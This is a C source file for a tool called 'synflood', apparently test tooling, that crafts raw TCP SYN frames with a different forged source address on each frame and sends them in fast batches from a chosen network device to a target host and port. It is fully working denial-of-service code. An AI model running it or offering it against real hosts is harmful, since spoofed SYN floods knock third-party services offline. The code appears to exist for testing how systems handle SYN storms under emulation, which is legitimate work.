// SPDX-License-Identifier: GPL-2.0-only
/*
 * synflood: SYNs, each from another address, which nobody will ever answer for.
 *
 *	synflood DEVICE MAC SOURCE TARGET PORT COUNT [SKIP]
 *
 * Frames go out of DEVICE to MAC; the first source is SOURCE plus SKIP. In C and
 * many at a time, because a million is wanted under emulation. Prints how many the
 * kernel took.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#define BATCH 64

struct frame {
	struct ether_header ether;
	struct iphdr ip;
	struct tcphdr tcp;
	uint8_t mss[4];
} __attribute__((packed));

static void check(int ok, const char *what)
{
	if (ok)
		return;
	fprintf(stderr, "synflood: %s: %s\n", what, strerror(errno));
	exit(1);
}

static uint32_t sum(const void *from, size_t bytes, uint32_t total)
{
	const uint8_t *at = from;
	size_t i;

	for (i = 0; i < bytes; i += 2)
		total += at[i] << 8 | at[i + 1];
	return total;
}

static uint16_t folded(uint32_t total)
{
	total = (total & 0xffff) + (total >> 16);
	return htons(~(total + (total >> 16)));
}

/* What differs from one to the next: source, port, sequence number. */
static void aim(struct frame *f, uint32_t source, unsigned int i)
{
	f->ip.saddr = htonl(source + i);
	f->ip.check = 0;
	f->ip.check = folded(sum(&f->ip, sizeof(f->ip), 0));
	f->tcp.source = htons(1024 + i % 60000);
	f->tcp.seq = htonl(i * 2654435761u);
	f->tcp.check = 0;
	f->tcp.check = folded(sum(&f->tcp, sizeof(f->tcp) + sizeof(f->mss),
				  sum(&f->ip.saddr, 8, IPPROTO_TCP + sizeof(f->tcp) + sizeof(f->mss))));
}

static struct frame first_of(char **argv)
{
	static const uint8_t mss[] = { TCPOPT_MAXSEG, TCPOLEN_MAXSEG, 1460 >> 8, 1460 & 255 };
	struct frame f = {
		.ether.ether_type = htons(ETHERTYPE_IP),
		.ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP,
			.tot_len = htons(sizeof(f) - sizeof(f.ether)) },
		.tcp = { .syn = 1, .doff = (sizeof(f.tcp) + sizeof(mss)) / 4, .window = htons(65535),
			 .dest = htons(atoi(argv[5])) },
	};
	const struct ether_addr *to = ether_aton(argv[2]);

	check(!!to, argv[2]);
	memcpy(f.ether.ether_dhost, to, sizeof(f.ether.ether_dhost));
	memcpy(f.mss, mss, sizeof(mss));
	check(inet_pton(AF_INET, argv[4], &f.ip.daddr) == 1, argv[4]);
	return f;
}

int main(int argc, char **argv)
{
	struct sockaddr_ll where = { .sll_family = AF_PACKET };
	static struct mmsghdr msg[BATCH];
	static struct iovec iov[BATCH];
	static struct frame frame[BATCH];
	unsigned int i, count, skip, n, sent;
	uint32_t source;
	int fd, took, one = 1;

	if (argc < 7 || argc > 8) {
		fputs("usage: synflood DEVICE MAC SOURCE TARGET PORT COUNT [SKIP]\n", stderr);
		return 2;
	}
	count = atoi(argv[6]);
	skip = argc > 7 ? atoi(argv[7]) : 0;
	check(inet_pton(AF_INET, argv[3], &source) == 1, argv[3]);
	source = ntohl(source);
	fd = socket(AF_PACKET, SOCK_RAW, 0);
	check(fd >= 0, "socket");
	where.sll_ifindex = if_nametoindex(argv[1]);
	check(where.sll_ifindex > 0, argv[1]);
	check(!bind(fd, (void *)&where, sizeof(where)), "bind");
	setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
	for (i = 0; i < BATCH; i++) {
		frame[i] = first_of(argv);
		iov[i] = (struct iovec){ &frame[i], sizeof(frame[i]) };
		msg[i].msg_hdr = (struct msghdr){ .msg_iov = &iov[i], .msg_iovlen = 1 };
	}
	for (sent = 0; sent < count; sent += took) {
		n = count - sent < BATCH ? count - sent : BATCH;
		for (i = 0; i < n; i++)
			aim(&frame[i], source, skip + sent + i);
		took = sendmmsg(fd, msg, n, 0);
		check(took > 0, "sendmmsg");
	}
	printf("%u\n", sent);
	return 0;
}
